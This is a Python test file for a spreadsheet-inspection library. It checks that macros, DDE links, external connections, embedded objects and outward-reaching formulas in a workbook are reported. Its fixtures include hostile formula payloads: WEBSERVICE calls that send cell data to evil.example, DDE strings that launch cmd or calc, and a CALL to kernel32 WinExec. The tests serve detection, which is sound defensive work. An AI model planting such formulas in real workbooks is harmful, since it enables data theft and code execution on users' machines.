"""What a workbook brings along beside its cells is told, and its values are read all the same."""

from collections.abc import Mapping

import pytest
from ooxml_samples import Change, replaced, rich, small, with_parts

from xlperf.ooxml.contents import MOST, FileNote, NoteKind, foreign_contents
from xlperf.ooxml.foreign_formulas import reaches_outside
from xlperf.ooxml.workbook import Workbook

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
CELL = '<row r="1"><c r="A1"><v>5</v></c></row>'
BOOK, SHEET = "xl/workbook.xml", "xl/worksheets/sheet1.xml"


def with_relation(kind: str, target: str, *, source: str = BOOK, data: bytes | None = b"<x/>") -> bytes:
    """A workbook in which one part refers to another; without ``data`` the target lies outside."""
    folder, _, name = source.rpartition("/")
    rels = f"{folder}/_rels/{name}.rels" if folder else "_rels/.rels"
    mode = ' TargetMode="External"' if data is None else ""
    line = f'<Relationship Id="rId99" Type="{kind}" Target="{target}"{mode}/></Relationships>'
    empty = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    )
    changes: dict[str, Change] = {}
    if source == BOOK or not folder:
        changes[rels] = replaced("</Relationships>", line)
    else:
        changes[rels] = empty.replace("</Relationships>", line)
    if data is not None:
        changes[target.removeprefix("/")] = data
    return with_parts(small(CELL), changes)


FOUND: Mapping[str, tuple[bytes, NoteKind, str]] = {
    "macros": (with_relation(f"{MICROSOFT}/vbaProject", "/xl/code.bin"), NoteKind.MACROS, "宏（VBA）"),
    "macros that nothing refers to": (
        with_parts(small(CELL), {"xl/vbaProject.bin": b"x"}),
        NoteKind.MACROS,
        "宏（VBA）",
    ),
    "macros of Excel 4.0": (
        with_relation(f"{MICROSOFT}/xlMacrosheet", "/xl/macrosheets/sheet1.xml"),
        NoteKind.MACROS,
        "Excel 4.0 宏表",
    ),
    "another workbook": (
        with_relation(f"{RELATIONS}/externalLink", "/xl/externalLinks/externalLink1.xml"),
        NoteKind.LINKS,
        "外部链接",
    ),
    "a program by DDE": (
        with_relation(
            f"{RELATIONS}/externalLink",
            "/xl/externalLinks/externalLink1.xml",
            data=b'<ddeLink ddeService="cmd"/>',
        ),
        NoteKind.LINKS,
        "DDE 链接",
    ),
    "a connection": (
        with_relation(f"{RELATIONS}/connections", "/xl/connections.xml"),
        NoteKind.LINKS,
        "数据连接",
    ),
    "a query": (
        with_relation(f"{RELATIONS}/queryTable", "/xl/queryTables/q1.xml", source=SHEET),
        NoteKind.LINKS,
        "查询表",
    ),
    "a picture from outside": (
        with_relation(f"{RELATIONS}/image", "http://evil.example/a.png", source=SHEET, data=None),
        NoteKind.LINKS,
        "指向外部的链接“http://evil.example/a.png”",
    ),
    "a link to a file": (
        with_relation(f"{RELATIONS}/hyperlink", r"\\server\share\a.exe", source=SHEET, data=None),
        NoteKind.LINKS,
        r"指向外部的链接“\\server\share\a.exe”",
    ),
    "an embedded file": (
        with_relation(f"{RELATIONS}/package", "/xl/embeddings/a.docx", source=SHEET),
        NoteKind.EMBEDDED,
        "嵌入文件",
    ),
    "an embedded object": (
        with_relation(f"{RELATIONS}/oleObject", "/xl/embeddings/oleObject1.bin", source=SHEET),
        NoteKind.EMBEDDED,
        "嵌入对象",
    ),
    "a control": (
        with_relation(f"{RELATIONS}/control", "/xl/activeX/activeX1.xml", source=SHEET),
        NoteKind.EMBEDDED,
        "ActiveX 控件",
    ),
    "a ribbon": (
        with_relation(f"{MICROSOFT}/ui/extensibility", "customUI/customUI.xml", source=""),
        NoteKind.EMBEDDED,
        "自定义功能区",
    ),
    "an add-in": (
        with_relation(
            "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
            "xl/webextensions/taskpanes.xml",
            source="",
        ),
        NoteKind.EMBEDDED,
        "加载项",
    ),
}


@pytest.mark.parametrize(("data", "kind", "words"), FOUND.values(), ids=FOUND.keys())
def test_what_comes_along_is_told_and_the_values_are_read(data: bytes, kind: NoteKind, words: str) -> None:
    book = Workbook.load(data)
    assert FileNote(kind, words) in foreign_contents(book)
    assert [cell.ref for cell in book.sheets[0].cells()] == ["A1"]


@pytest.mark.parametrize("target", ["https://www.mof.gov.cn", "mailto:a@b.cn", "#表!A1"])
def test_a_plain_link_of_somebody_who_typed_an_address_is_none(target: str) -> None:
    data = with_relation(f"{RELATIONS}/hyperlink", target, source=SHEET, data=None)
    assert foreign_contents(Workbook.load(data)) == ()


def test_a_workbook_with_pictures_charts_notes_and_buttons_brings_nothing_along_but_what_it_hides() -> None:
    assert foreign_contents(Workbook.load(rich())) == (
        FileNote(NoteKind.HIDDEN_SHEET, "“字典”（隐藏）", "字典"),
    )
    assert foreign_contents(Workbook.load(rich()), lambda sheet: sheet.title == "字典") == ()


OUTSIDE = {
    'WEBSERVICE("http://evil.example/?"&A1)': "WEBSERVICE",
    '_xlfn.WEBSERVICE("http://evil.example")': "WEBSERVICE",
    'webservice("x")': "WEBSERVICE",
    "'1.村道'!$G$7&WEBSERVICE('2.河道'!A1)": "WEBSERVICE",
    'IF(A1=1,RTD("prog.id","",A1),0)': "RTD",
    '_xlfn.IMAGE("https://evil.example/a.png")': "IMAGE",
    "cmd|'/c calc.exe'!A0": "DDE",
    "MSEXCEL|'\\..\\..\\cmd.exe'!'x'": "DDE",
    'DDE("soffice";"a.ods";"A1")': "DDE",
    "[1]Sheet1!$A$1*2": "别的工作簿",
    "'C:\\账\\[去年.xlsx]表'!A1": "别的工作簿",
    "'file:///账/a.ods'#$表.A1": "别的工作簿",
    'HYPERLINK("http://evil.example","看这里")': "HYPERLINK",
    'HYPERLINK(A1,"看这里")': "HYPERLINK",
    'CALL("kernel32","WinExec","JCJ","calc",0)': "CALL",
}
INSIDE = (
    "SUM(A1:A5)",
    '"WEBSERVICE("&A1',
    '"[1]表!A1"',
    "\"cmd|'/c calc'!A0\"",
    'HYPERLINK("#表!A1","看")',
    "表1[分值]*2",
    "SUM(表1[[#This Row],[分值]])",
    "'一 村'!A1",
    "RECALL(A1)",
    "MYRTD(1)",
)


@pytest.mark.parametrize(("formula", "words"), OUTSIDE.items())
def test_a_formula_that_reaches_outside_is_told_at_its_cell(formula: str, words: str) -> None:
    assert words in reaches_outside(formula)
    written = formula.replace("&", "&amp;").replace("<", "&lt;")
    data = small(f'<row r="2"><c r="C2"><f>{written}</f><v>1</v></c></row>')
    (note,) = foreign_contents(Workbook.load(data))
    assert (note.kind, note.sheet, note.cell) == (NoteKind.LINKS, "表", "C2")
    assert words in note.words


@pytest.mark.parametrize("formula", INSIDE)
def test_a_formula_that_stays_inside_is_not(formula: str) -> None:
    assert reaches_outside(formula) == ""
    written = formula.replace("&", "&amp;")
    data = small(f'<row r="2"><c r="C2"><f>{written}</f><v>1</v></c></row>')
    assert foreign_contents(Workbook.load(data)) == ()


@pytest.mark.parametrize(
    "element",
    [
        "<f>&#87;EBSERVICE(1)</f>",
        "<f>IF(A1=&#034;&#27169;&#034;,&#x57;EBSERVICE(1))</f>",
        "<f><![CDATA[WEBSERVICE(1)]]></f>",
        '<f t="shared" ref="C2" si="0">WEBSERVICE(1)</f>',
    ],
)
def test_a_formula_is_found_however_it_is_written_down(element: str) -> None:
    data = small(f'<row r="2"><c r="C2">{element}<v>1</v></c></row>')
    assert [note.cell for note in foreign_contents(Workbook.load(data))] == ["C2"]


def test_one_formula_that_reaches_outside_is_found_among_many_alike_however_often_those_were_seen() -> None:
    cells = [f'<c r="A{n}"><f>SUM(B{n}:C{n})*{n}</f><v>{n}</v></c>' for n in range(1, 500)]
    harmless = "".join(f'<row r="{n}">{cell}</row>' for n, cell in enumerate(cells, 1))
    hostile = harmless.replace("SUM(B321:C321)", "rtd(B321:C321)")
    for data, told in ((harmless, []), (hostile, ["A321"]), (harmless, []), (hostile, ["A321"])):
        assert [note.cell for note in foreign_contents(Workbook.load(small(data)))] == told


def test_a_link_that_was_let_pass_on_a_sheet_of_ours_is_told_on_any_other() -> None:
    data = small('<row r="2"><c r="C2"><f>HYPERLINK(A1,"看")</f><v>1</v></c></row>')
    for _ in range(2):
        assert foreign_contents(Workbook.load(data), lambda _: True) == ()
        assert [note.cell for note in foreign_contents(Workbook.load(data))] == ["C2"]


def test_a_million_of_one_kind_are_told_by_the_first_few() -> None:
    rows = "".join(
        f'<row r="{n}"><c r="A{n}"><f>WEBSERVICE(A{n})</f><v>1</v></c></row>' for n in range(1, 500)
    )
    assert len(foreign_contents(Workbook.load(small(rows)))) == MOST
